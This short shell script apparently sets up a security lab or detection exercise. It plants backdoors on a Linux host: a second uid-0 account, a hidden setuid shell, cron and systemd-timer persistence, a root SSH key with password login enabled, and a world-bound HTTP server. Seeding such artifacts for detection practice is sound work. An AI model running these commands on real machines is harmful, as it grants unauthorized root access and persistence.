# a second root, a setuid shell, a program in /tmp, a job of root's, a foreign key, an open sshd and a database for all
useradd -o -u 0 -g 0 -M -N toor
cp /bin/dash /usr/local/bin/.helper
chmod 4755 /usr/local/bin/.helper
printf '#!/bin/sh\nexit 0\n' >/tmp/.x
chmod +x /tmp/.x
echo '*/5 * * * * /tmp/.x' | crontab -
mkdir -p /root/.ssh /run/sshd
ssh-keygen -qt ed25519 -N '' -C unknown@elsewhere -f /run/key
cat /run/key.pub >/root/.ssh/authorized_keys
printf 'PermitRootLogin yes\nPasswordAuthentication yes\n' >/etc/ssh/sshd_config.d/open.conf
ssh-keygen -A >/dev/null
systemctl start ssh
printf '[Timer]\nOnCalendar=hourly\n' >/etc/systemd/system/beacon.timer
printf '[Service]\nType=oneshot\nExecStart=/tmp/.x\n' >/etc/systemd/system/beacon.service
systemctl daemon-reload
systemctl start beacon.timer
systemctl enable -q cron
systemctl start cron
python3 -m http.server 5432 --bind 0.0.0.0 --directory /run/sshd >/dev/null 2>&1 &
until_ "ss -Htln | grep -q :5432 && ss -Htln | grep -q :22"
python3 /opt/logins.py
